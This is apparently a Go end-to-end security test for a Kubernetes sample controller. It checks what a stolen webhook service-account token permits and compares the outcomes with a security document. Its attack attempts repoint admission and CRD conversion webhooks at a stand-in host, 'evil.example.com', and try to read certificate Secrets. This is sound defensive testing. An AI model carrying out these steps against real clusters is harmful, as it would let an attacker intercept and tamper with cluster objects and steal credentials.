//go:build e2e

/*
Copyright The sample-controller Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package e2e

import (
	"context"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	admissionregistrationv1 "k8s.io/api/admissionregistration/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
	"k8s.io/client-go/rest"
)

// webhookAttempts take the rights to keep the certificate of the webhooks.
func webhookAttempts() []attempt {
	return []attempt{
		{what: "register a server of their own as an admission webhook for all resources", try: func(ctx context.Context, t *attacker) error {
			all := admissionregistrationv1.RuleWithOperations{
				Operations: []admissionregistrationv1.OperationType{admissionregistrationv1.OperationAll},
				Rule:       admissionregistrationv1.Rule{APIGroups: []string{"*"}, APIVersions: []string{"*"}, Resources: []string{"*"}},
			}
			configuration, err := shared.kube.AdmissionregistrationV1().MutatingWebhookConfigurations().Get(ctx, webhookAccount, metav1.GetOptions{})
			if err != nil {
				return err
			}
			url := "https://evil.example.com/"
			configuration.Webhooks[0].Rules, configuration.Webhooks[0].ClientConfig = []admissionregistrationv1.RuleWithOperations{all}, admissionregistrationv1.WebhookClientConfig{URL: &url}
			_, err = t.kube.AdmissionregistrationV1().MutatingWebhookConfigurations().Update(ctx, configuration, dryUpdate)
			return err
		}},
		{what: "change the CRD of Foos", try: func(ctx context.Context, t *attacker) error {
			return t.changeCRD(ctx, "foos.samplecontroller.k8s.io")
		}},
		// +drop:memcached
		{what: "change another CRD", try: func(ctx context.Context, t *attacker) error {
			return t.changeCRD(ctx, "memcacheds.cache.example.com")
		}},
		// +drop:end
		{what: "read the Secret with the certificate of the webhooks", try: func(ctx context.Context, t *attacker) error {
			secrets, err := t.kube.CoreV1().Secrets(t.home).List(ctx, metav1.ListOptions{FieldSelector: "metadata.name=" + webhookAccount})
			if err == nil && len(secrets.Items) != 1 {
				err = errors.New("there is none")
			}
			return err
		}},
		{what: "create a Secret in the controller's namespace", try: func(ctx context.Context, t *attacker) error {
			_, err := t.kube.CoreV1().Secrets(t.home).Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "evil"}}, dryCreate)
			return err
		}},
		{what: "read all Foos and Deployments", try: func(ctx context.Context, t *attacker) error {
			_, err := t.clientset.SamplecontrollerV1alpha1().Foos("").List(ctx, metav1.ListOptions{})
			if err == nil {
				_, err = t.kube.AppsV1().Deployments("").List(ctx, metav1.ListOptions{})
			}
			return err
		}},
		{what: "create, change or delete a Deployment", try: func(ctx context.Context, t *attacker) error {
			return t.kube.AppsV1().Deployments(t.namespace).Delete(ctx, "x", dryDelete)
		}},
	}
}

// changeCRD tries to have the objects of the CRD converted by another server.
func (t *attacker) changeCRD(ctx context.Context, name string) error {
	crds := schema.GroupVersionResource{Group: "apiextensions.k8s.io", Version: "v1", Resource: "customresourcedefinitions"}
	admin, err := dynamic.NewForConfig(shared.config)
	if err != nil {
		return err
	}
	crd, err := admin.Resource(crds).Get(ctx, name, metav1.GetOptions{})
	if err != nil {
		return err
	}
	config := rest.AnonymousClientConfig(shared.config)
	config.BearerToken, config.UserAgent = t.token, stolenToken
	evil, err := dynamic.NewForConfig(config)
	if err != nil {
		return err
	}
	conversion := map[string]any{"strategy": "Webhook", "webhook": map[string]any{
		"clientConfig": map[string]any{"url": "https://evil.example.com/"}, "conversionReviewVersions": []any{"v1"},
	}}
	if err := unstructured.SetNestedMap(crd.Object, conversion, "spec", "conversion"); err != nil {
		return err
	}
	_, err = evil.Resource(crds).Update(ctx, crd, dryUpdate)
	return err
}

// stolenToken tries what an attacker with the token of the webhooks' service account can do, where the
// program keeps the certificate and where cert-manager does. The table of docs/security.md is its
// result.
func (w *webhookEnv) stolenToken(t *testing.T) {
	e := newEnv(t)
	// The controller of walkthrough 5 syncs all namespaces.
	e.create("x")
	e.awaitReady("x")
	account := func(namespace, roles string) *attacker {
		e.Helper()
		attacker := newAttacker(e, systemNamespace, namespace, webhookAccount)
		e.eventually("the token has the rights of "+roles, func(ctx context.Context) error {
			_, err := attacker.kube.AppsV1().Deployments(e.namespace).List(ctx, metav1.ListOptions{})
			return err
		})
		return attacker
	}
	own := account(systemNamespace, "with-webhook")
	// With cert-manager the manifests bind one role.
	binding := e.namespace + "-lookups"
	shOnCleanup(t, "kubectl delete clusterrolebinding "+binding)
	sh(t, fmt.Sprintf("kubectl create serviceaccount %[2]s --namespace=%[3]s && kubectl create clusterrolebinding %[1]s --clusterrole=%[2]s-lookups --serviceaccount=%[3]s:%[2]s", binding, webhookAccount, e.namespace))
	shOnCleanup(t, fmt.Sprintf("kubectl delete serviceaccount %s --namespace=%s", webhookAccount, e.namespace))
	certManager := account(e.namespace, "with-webhook-cert-manager")
	document, err := os.ReadFile(filepath.Join(shared.root, "docs/security.md"))
	e.must(err)
	for _, attempts := range []func() []attempt{webhookAttempts, otherAttempts} {
		for _, a := range attempts() {
			row := fmt.Sprintf("| %s | %s | %s |", a.what, own.succeeds(a), certManager.succeeds(a))
			t.Log(row)
			if !strings.Contains(string(document), row+"\n") {
				t.Errorf("docs/security.md lacks the row %s", row)
			}
		}
	}
}
